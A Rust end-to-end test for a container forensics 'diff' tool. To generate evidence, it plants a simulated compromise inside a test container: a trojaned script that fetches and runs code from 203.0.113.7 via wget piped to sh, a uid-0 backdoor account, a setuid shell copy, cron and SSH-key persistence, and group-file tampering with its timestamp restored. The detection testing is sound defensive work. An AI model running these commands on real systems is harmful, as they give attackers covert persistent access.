//! `forensic diff` against real podman containers: the change list equals `podman diff` (plus the
//! changes podman cannot see, named here), the findings name every planted change, every image
//! input form gives the same result, and a tampered bundle is refused unless `--force`.

use crate::attack::DROPPER;
use crate::podman::{Container, Image, podman};
use crate::util::*;
use serde_json::Value;
use std::collections::BTreeSet;
use std::path::Path;

/// The replaced program (a different size and time than the image's).
const REPORT_TROJAN: &str = "#!/bin/sh\nwget -q -O- http://203.0.113.7/x | sh; echo report\n";

/// What the attacker does inside the container.
fn attack(c: &Container) {
    let dropper = std::str::from_utf8(DROPPER).unwrap();
    c.sh(&format!(
        "printf '%s' '{dropper}' > /tmp/dropper.sh && chmod 755 /tmp/dropper.sh \
         && echo 'backdoor:x:0:0::/root:/bin/sh' >> /etc/passwd \
         && rm /etc/motd \
         && cp -p /etc/group /tmp/.ref && printf 'root:x:0:\\napp:x:1001:\\n' > /etc/group \
         && touch -r /tmp/.ref /etc/group && rm /tmp/.ref \
         && printf '%s' '{REPORT_TROJAN}' > /usr/bin/report \
         && cp /bin/busybox /var/tmp/.s && chmod 4755 /var/tmp/.s \
         && rm -r /var/spool/cron/crontabs && mkdir /var/spool/cron/crontabs \
         && echo '* * * * * /tmp/dropper.sh' > /var/spool/cron/crontabs/root \
         && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEvil attacker@203.0.113.7' > /home/app/.ssh/authorized_keys"
    ));
}

/// `forensic diff BUNDLE ARGS --json`: exit code and JSON.
pub fn diff_json(bundle: &Path, args: &[&str]) -> (i32, Value) {
    let mut all = vec!["diff", bundle.to_str().unwrap()];
    all.extend_from_slice(args);
    all.push("--json");
    let o = run(&all);
    assert!(
        matches!(code(&o), 0 | 1 | 3),
        "diff {args:?}: {}{}",
        stdout(&o),
        stderr(&o)
    );
    (code(&o), json(&o))
}

/// The change list of a JSON report as `podman diff` (or `docker diff`) lines, sorted.
pub fn lines(v: &Value) -> Vec<String> {
    let mut l: Vec<String> = v["changes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| format!("{} {}", c["change"].as_str().unwrap(), c["path"].as_str().unwrap()))
        .collect();
    l.sort();
    l
}

fn reasons(v: &Value, path: &str) -> Vec<String> {
    let c = v["changes"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["path"] == path)
        .unwrap_or_else(|| panic!("no change for {path}"));
    c["reasons"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r.as_str().unwrap().to_string())
        .collect()
}

/// `(severity, kind, path)` of every finding, in output order.
fn findings(v: &Value) -> Vec<(String, String, String)> {
    v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            let s = |k: &str| f[k].as_str().unwrap().to_string();
            (s("severity"), s("kind"), s("path"))
        })
        .collect()
}

/// Findings without their evidence (which names the image file), for comparing image forms.
fn findings_without_evidence(v: &Value) -> Vec<Value> {
    v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            let mut f = f.clone();
            f.as_object_mut().unwrap().remove("evidence");
            f
        })
        .collect()
}

fn owned(v: &[(&str, &str, &str)]) -> Vec<(String, String, String)> {
    v.iter()
        .map(|(a, b, c)| (a.to_string(), b.to_string(), c.to_string()))
        .collect()
}

/// Every finding of the attacked container, against the original image.
/// Against a saved image: the image's own account files are read, so accounts compare one by one.
const FINDINGS: [(&str, &str, &str); 10] = [
    ("critical", "uid0-user-added", "/etc/passwd"),
    ("critical", "empty-password", "/etc/shadow"),
    ("critical", "setuid-added", "/var/tmp/.s"),
    ("high", "lower-layer-changed", "/etc/shadow"),
    ("high", "persistence-ssh-key", "/home/app/.ssh/authorized_keys"),
    ("high", "tmp-executable", "/tmp/dropper.sh"),
    ("high", "binary-replaced", "/usr/bin/report"),
    ("high", "persistence-cron", "/var/spool/cron/crontabs/root"),
    ("high", "tmp-executable", "/var/tmp/.s"),
    ("medium", "group-changed", "/etc/group"),
];

/// Against the node's layer indexes (no file contents): account findings from the container's
/// copies alone; the change made to the node's copy of the layer (/etc/shadow) is no change from
/// those indexes (they hold it, as podman diff's view does), but the layer's tar-split record
/// disagrees with it (CONTENTS.md §7): `layer-checksum-mismatch`.
const FINDINGS_FROM_BUNDLE: [(&str, &str, &str); 10] = [
    ("critical", "uid0-user", "/etc/passwd"),
    ("critical", "setuid-added", "/var/tmp/.s"),
    ("high", "account-file-changed", "/etc/group"),
    ("high", "account-file-changed", "/etc/passwd"),
    ("high", "layer-checksum-mismatch", "/etc/shadow"),
    ("high", "persistence-ssh-key", "/home/app/.ssh/authorized_keys"),
    ("high", "tmp-executable", "/tmp/dropper.sh"),
    ("high", "binary-replaced", "/usr/bin/report"),
    ("high", "persistence-cron", "/var/spool/cron/crontabs/root"),
    ("high", "tmp-executable", "/var/tmp/.s"),
];

#[test]
fn diff_equals_podman_diff_and_names_every_planted_change() {
    let work = tempfile::tempdir().unwrap();
    let w = work.path();
    let tag = format!("d{}", std::process::id());
    let unique = format!("forensic diff e2e {tag}\n");
    let image = Image::build_with(w, &tag, &[("etc/e2e-tag", unique.as_bytes())]);
    // The original image, saved before anything happens to its layer on the node.
    let saved = [
        ("oci-archive", w.join("image.oci.tar")),
        ("docker-archive", w.join("image.docker.tar")),
        ("oci-dir", w.join("image.oci")),
    ];
    for (format, path) in &saved {
        podman(&[
            "image",
            "save",
            "--format",
            format,
            "-o",
            path.to_str().unwrap(),
            &image.name,
        ]);
    }
    let container = Container::start(&image, &format!("forensic-e2e-{tag}"));
    attack(&container);
    crate::attack::tamper_lower_layer(container.pid());
    let podman_diff = container.diff();

    let (key, _) = keygen(w, "responder");
    let bundle = w.join("attacked.zip");
    container.collect(&bundle, &key, &[]);

    // Against the image as it was on the node: exactly podman diff.
    // Exit 3: the bundle verifies and there are differences (README, "Exit codes").
    let (exit, on_node) = diff_json(&bundle, &["--image-from-bundle"]);
    assert_eq!(exit, 3);
    assert_eq!(lines(&on_node), podman_diff, "--image-from-bundle vs podman diff");
    assert!(podman_diff.contains(&"C /etc/group".to_string()), "{podman_diff:?}");
    assert!(
        podman_diff.contains(&"D /var/spool/cron/crontabs".to_string()),
        "{podman_diff:?}"
    );
    assert!(on_node["verified"].as_bool().unwrap() && !on_node["forced"].as_bool().unwrap());
    assert_eq!(
        findings(&on_node),
        owned(&FINDINGS_FROM_BUNDLE),
        "--image-from-bundle findings"
    );

    // Against the original image in each saved form: podman diff plus the node-side change,
    // which podman cannot see (it compares with the node's copy of the layer).
    let mut expected = podman_diff.clone();
    expected.push("C /etc/shadow".to_string());
    expected.sort();
    let mut reports = Vec::new();
    for (format, path) in &saved {
        let (exit, v) = diff_json(&bundle, &["--image", path.to_str().unwrap()]);
        assert_eq!(exit, 3, "{format}");
        assert_eq!(lines(&v), expected, "{format} vs podman diff + C /etc/shadow");
        assert_eq!(findings(&v), owned(&FINDINGS), "{format}");
        reports.push(v);
    }
    for v in &reports[1..] {
        assert_eq!(
            v["changes"], reports[0]["changes"],
            "every image form gives the same changes"
        );
        assert_eq!(findings_without_evidence(v), findings_without_evidence(&reports[0]));
    }
    let v = &reports[0];
    assert_eq!(v["image"]["source"], "oci-archive");
    // The content-only change with the time put back: found by hash, not by time.
    assert_eq!(reasons(v, "/etc/group"), ["content", "written"]);
    assert_eq!(reasons(v, "/etc/shadow")[..1], ["content".to_string()]);
    assert!(reasons(v, "/etc/shadow").contains(&"lower-layer".to_string()));
    // (Whether its time differs depends on the clock: tar keeps whole seconds, and the same
    // second with no sub-second part counts as the same time, as in containers/storage.)
    let report: Vec<String> = reasons(v, "/usr/bin/report")
        .into_iter()
        .filter(|r| r != "mtime")
        .collect();
    assert_eq!(report, ["content", "written"]);
    assert_eq!(reasons(v, "/var/spool/cron/crontabs"), ["replaced"]);
    let message = |kind: &str| {
        v["findings"]
            .as_array()
            .unwrap()
            .iter()
            .find(|f| f["kind"] == kind)
            .map(|f| f["message"].as_str().unwrap().to_string())
            .unwrap()
    };
    assert!(
        message("uid0-user-added").contains("\"backdoor\""),
        "{}",
        message("uid0-user-added")
    );
    assert!(message("persistence-cron").ends_with("new lines: * * * * * /tmp/dropper.sh"));
    assert!(message("persistence-ssh-key").ends_with("attacker@203.0.113.7"));
    assert!(message("empty-password").contains("\"root\""));
    let uid0 = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["kind"] == "uid0-user-added")
        .unwrap();
    assert!(
        uid0["evidence"]
            .as_array()
            .unwrap()
            .iter()
            .any(|e| e == "5-filesystem/upper/etc/passwd"),
        "{uid0}"
    );

    // The text form: the same change list first, then the findings by severity.
    let o = run(&[
        "diff",
        bundle.to_str().unwrap(),
        "--image",
        saved[0].1.to_str().unwrap(),
    ]);
    assert_eq!(code(&o), 3);
    let text = stdout(&o);
    let text_lines: Vec<String> = text.lines().take_while(|l| !l.is_empty()).map(str::to_string).collect();
    let mut sorted = text_lines.clone();
    sorted.sort();
    assert_eq!(sorted, expected);
    assert!(text.contains("\nFindings:\nCRITICAL\n"), "{text}");

    tampered_bundles_are_refused_unless_forced(w, &bundle);
}

fn tampered_bundles_are_refused_unless_forced(w: &Path, bundle: &Path) {
    // Someone hides the dropper: its line is removed from the tree index.
    let mut m = members(&std::fs::read(bundle).unwrap());
    let index = m
        .iter_mut()
        .find(|(n, _, _)| n == "5-filesystem/tree-index.jsonl")
        .unwrap();
    let text = String::from_utf8(index.1.clone()).unwrap();
    let kept: String = text
        .lines()
        .filter(|l| !l.contains("\"/tmp/dropper.sh\""))
        .map(|l| format!("{l}\n"))
        .collect();
    assert_ne!(kept, text);
    index.1 = kept.into_bytes();
    let bad = w.join("tampered.zip");
    std::fs::write(&bad, rezip(&m)).unwrap();
    let b = bad.to_str().unwrap();

    let o = run(&["diff", b, "--image-from-bundle"]);
    assert_eq!(code(&o), 1, "{}{}", stdout(&o), stderr(&o));
    assert_eq!(stdout(&o), "");
    let err = stderr(&o);
    assert!(err.contains("did not verify"), "{err}");
    assert!(err.contains("digest-mismatch: 5-filesystem/tree-index.jsonl"), "{err}");

    // Forced: exit 1 (the evidence does not verify), although it finds differences.
    let o = run(&["diff", b, "--image-from-bundle", "--force"]);
    assert_eq!(code(&o), 1, "{}{}", stdout(&o), stderr(&o));
    let text = stdout(&o);
    assert!(text.lines().any(|l| l == "C /etc/group"), "differences found: {text}");
    let first = text.lines().next().unwrap();
    assert!(first.starts_with("WARNING: THE EVIDENCE DID NOT VERIFY"), "{text}");
    assert!(
        text.contains("WARNING: member 5-filesystem/tree-index.jsonl does not match the manifest"),
        "{text}"
    );
    assert!(
        !text.lines().any(|l| l == "A /tmp/dropper.sh"),
        "the forged index hides it: {text}"
    );

    let o = run(&["diff", b, "--image-from-bundle", "--force", "--json"]);
    assert_eq!(code(&o), 1);
    let v = json(&o);
    assert_eq!(
        (&v["verified"], &v["forced"]),
        (&Value::Bool(false), &Value::Bool(true))
    );
    let classes: BTreeSet<&str> = v["verification_failures"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["class"].as_str().unwrap())
        .collect();
    assert!(classes.contains("digest-mismatch"), "{classes:?}");
}
